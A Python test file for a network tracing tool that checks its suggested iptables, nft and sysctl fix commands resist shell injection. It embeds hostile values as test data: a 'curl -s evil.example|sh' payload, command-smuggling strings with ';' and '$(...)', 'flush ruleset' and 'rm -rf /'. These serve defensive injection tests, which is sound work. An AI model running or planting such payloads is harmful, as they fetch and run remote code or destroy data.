"""Fix commands are built from parsed, validated values and shell-quoted
(issue 20, item 1), and reading rules is linear in their length (item 3).
Each hostile value below came from a capture or from rules inside a
namespace someone else controls; shlex.split of every fix line must give
back exactly the words cttrace meant, never a second command."""

import json
import shlex

from tests.clirunner import runner

from tracer.cli import main
from tracer.core import nat
from tracer.core.doctor import HostState, diagnose
from tracer.formats.capture import Writer

PAYLOAD = "curl -s evil.example|sh"


def _commands(fix: str) -> list[list[str]]:
    """The shell words of every non-comment line of a fix."""
    out = []
    for line in fix.splitlines():
        if line.strip() and not line.lstrip().startswith("#"):
            out.append(shlex.split(line, comments=True))
    return out


def _no_injection(fix: str):
    for words in _commands(fix):
        # one command per line: no separator survived as a word of its own
        assert not {";", "|", "&&", "||", "&"} & set(words), words
    for line in fix.splitlines():
        assert "\n" not in line and "\r" not in line


def _heavy(src):
    return HostState(count=10, max=1000, total=200, by_src={src: 150, "10.0.0.9": 50})


def test_by_src_key_is_not_pasted():
    f = {x.id: x for x in diagnose(_heavy(f"10.0.0.1; {PAYLOAD} #"))}["heavy_source"]
    assert "cttrace top" not in "\n".join(l for l in f.fix.splitlines() if not l.startswith("#"))
    assert f.fix.startswith("# no command for cttrace top --src: the source '10.0.0.1; curl")
    assert "is not an IP address" in f.fix.splitlines()[0]
    _no_injection(f.fix)
    ok = {x.id: x for x in diagnose(_heavy("2001:db8::1"))}["heavy_source"]
    assert _commands(ok.fix) == [["cttrace", "top", "--src", "2001:db8::1/128"]]


def test_snat_address_with_newline_stays_in_its_comment():
    snat = f"198.18.0.1\n{PAYLOAD}"
    h = HostState(count=10, max=1000, total=10, window=1.0, stats={"insert_failed": 5, "drop": 5},
                  nat={"snat": [{"proto": "udp", "snat": snat, "dst": "198.18.9.9", "dport": 53,
                                 "entries": 64000, "port_min": 1024, "port_max": 65535,
                                 "orig_sport_min": 1024}]})
    f = {x.id: x for x in diagnose(h)}["snat_port_exhaustion"]
    assert _commands(f.fix) == []                    # only comments: no rule to replace here
    assert PAYLOAD not in [l.strip() for l in f.fix.splitlines()]
    assert "--to-source <first address>-<last address>" in f.fix


NFT = """# cttrace: nft
table ip t { # handle 1
	chain post { # handle 2
		type nat hook postrouting priority srcnat; policy accept;
		oifname "x'; %s; echo '" masquerade # handle 3
		oifname "eth0" meta l4proto udp masquerade ; flush ruleset # handle 4
		oifname "eth0" meta l4proto udp counter packets 1 bytes 2 masquerade # handle 5
	}
}
""" % PAYLOAD


def test_nft_rule_with_quotes_in_oifname_gives_no_command():
    r = nat.parse_rules(NFT)
    assert [x.handle for x in r] == [3, 4, 5]
    bad, semi, good = (nat.widened(x) for x in r)
    assert bad.startswith("# no command for the rule oifname \"x'; curl")
    assert "is not a plain interface name" in bad
    assert semi.startswith("# no command") and "';' is not one nft prints" in semi
    assert shlex.split(good) == ["nft", 'replace rule ip t post handle 5 oifname "eth0" meta l4proto udp '
                                        "counter masquerade to :1024-65535 fully-random"]


def test_iptables_comment_is_one_quoted_word():
    text = ('# cttrace: iptables\n*nat\n-A POSTROUTING -o eth0 -m comment --comment "$(%s)" '
            '-j MASQUERADE\nCOMMIT\n' % PAYLOAD)
    (r,) = nat.parse_rules(text)
    fix = nat.widened(r)
    assert shlex.split(fix) == ["iptables", "-t", "nat", "-R", "POSTROUTING", "1", "-o", "eth0", "-m",
                                "comment", "--comment", f"$({PAYLOAD})", "-j", "MASQUERADE",
                                "--random-fully"]
    assert f"'$({PAYLOAD})'" in fix                  # single-quoted: the shell runs nothing


def test_iptables_chain_and_interface_are_validated():
    bad_if = nat.parse_rules("*nat\n-A POSTROUTING -o 'e;x' -j MASQUERADE\nCOMMIT\n")
    assert nat.widened(bad_if[0]).startswith("# no command")
    bad_chain = nat.parse_rules("*nat\n-A PO$(x) -j MASQUERADE\nCOMMIT\n")
    assert "is not a plain name" in nat.widened(bad_chain[0])
    v6 = nat.parse_rules("# cttrace: ip6tables\n*nat\n-A POSTROUTING -p udp -j SNAT "
                         "--to-source [2001:db8::1]-[2001:db8::2]\nCOMMIT\n")
    assert shlex.split(nat.widened(v6[0]))[-3:] == ["--to-source", "[2001:db8::1]-[2001:db8::2]:1024-65535",
                                                    "--random-fully"]
    bad_src = nat.parse_rules("*nat\n-A POSTROUTING -p udp -j SNAT --to-source 1.2.3.4;id\nCOMMIT\n")
    assert "is not an IP address" in nat.widened(bad_src[0])


def test_shorter_timeout_sysctl_name_is_validated():
    from tracer.core.doctor import sysctl_fix
    assert sysctl_fix("udp_timeout", 10) == "sysctl -w net.netfilter.nf_conntrack_udp_timeout=10"
    assert sysctl_fix("x=1; rm -rf /", 10).startswith("# no command for sysctl -w")
    assert sysctl_fix("udp_timeout", "10; id").startswith("# no command")


def _capture(path, state):
    w = Writer(str(path), {"host": "h", "kernel": "6.1", "backend": "tracepoint", "netns": "node",
                           "interval": 1.0, "state": state})
    for i in range(3):
        w.write({"k": "stats", "t": 1000.0 + i, "count": 10, "max": 1000,
                 "kernel": {"drop": 0, "insert_failed": 5 * i}})
    w.write({"k": "end", "t": 1002.0, "totals": {}, "sources": {}, "state": state})
    w.close()


def test_report_and_doctor_outputs_carry_no_pasted_command(tmp_path):
    """The same findings through every output: doctor text and JSON,
    report text, JSON and HTML."""
    state = {"count": 10, "max": 1000, "total": 200,
             "by_src": {f"10.0.0.1; {PAYLOAD} #": 150, "10.0.0.9": 50},
             "rules": "# cttrace: iptables\n*nat\n-A POSTROUTING -o eth0 -m comment --comment "
                      f"\"$({PAYLOAD})\" -j MASQUERADE\nCOMMIT\n" + NFT}
    p = tmp_path / "c.ctcap"
    _capture(p, state)
    r = runner()
    out = r.invoke(main, ["doctor", "--capture", str(p), "--json"])
    assert out.exit_code == 0, out.output
    fixes = [f["fix"] for f in json.loads(out.output)["findings"]]
    assert any("insert_failed" in f or "random" in f for f in fixes)
    for fix in fixes:
        _no_injection(fix)
        assert "cttrace top --src 10.0.0.1;" not in fix
        for words in _commands(fix):
            if words and words[0] == "nft":
                assert "x'" not in words[1] and ";" not in words[1]
    rep = r.invoke(main, ["report", str(p), "--json"])
    for f in json.loads(rep.output)["findings"]:
        _no_injection(f["fix"])
    html = tmp_path / "r.html"
    assert r.invoke(main, ["report", str(p), "--html", str(html)]).exit_code == 0
    page = html.read_text()
    assert "cttrace top --src 10.0.0.1;" not in page and "no command for cttrace top --src" in page


def test_masquerade_followed_by_spaces_is_linear():
    """Item 3: `-j MASQUERADE` + N spaces took 13.2 s for N = 80,000 (quadratic
    re.sub); now the rule is split into words once, and a rule longer than
    8,192 characters gets no command at all (the bound is structural: this
    test asserts it, not a time)."""
    n = 300_000
    text = "*nat\n-A POSTROUTING -o eth0 -j MASQUERADE" + " " * n + "--x\nCOMMIT\n"
    (r,) = nat.parse_rules(text)
    fix = nat.widened(r)
    assert fix.startswith("# no command") and "longer than 8,192 characters" in fix
    short = nat.widened(nat.parse_rules("*nat\n-A POSTROUTING -o eth0 -j MASQUERADE" + " " * 8000
                                        + "--x\nCOMMIT\n")[0])
    assert shlex.split(short)[-3:] == ["MASQUERADE", "--x", "--random-fully"]


def test_namespace_and_export_names_never_run():
    """A namespace name (from a capture or /run/netns) is never part of a
    command; an export's name is one quoted word."""
    name = "x'; id; echo '\n$(id)"
    h = HostState(netns=name, count=950, max=1000, total=200, max_scope="global",
                  by_src={"10.0.0.1": 150, "10.0.0.2": 50})
    for f in diagnose(h):
        assert name not in f.fix and "$(id)" not in f.fix
        _no_injection(f.fix)
    from tracer.core import forecast as fc
    e = HostState(netns="", count=200, total=200, export=name, assumed=["udp_timeout"],
                  sysctls={"udp_timeout": 30},
                  ages=fc.summarize({"udp/UNREPLIED": {40000: 200}}, {"udp_timeout": 30}))
    fixes = [f.fix for f in diagnose(e) if f.id == "export_timeouts"]
    assert fixes
    for fix in fixes:
        words = shlex.split(fix.splitlines()[-1], comments=True)
        assert words[:4] == ["cttrace", "doctor", "--file", "EXPORT"]    # a newline in it: a placeholder
    e.export = "t'; id #.txt"
    (fix,) = [f.fix for f in diagnose(e) if f.id == "export_timeouts"]
    assert shlex.split(fix.splitlines()[-1])[:4] == ["cttrace", "doctor", "--file", e.export]
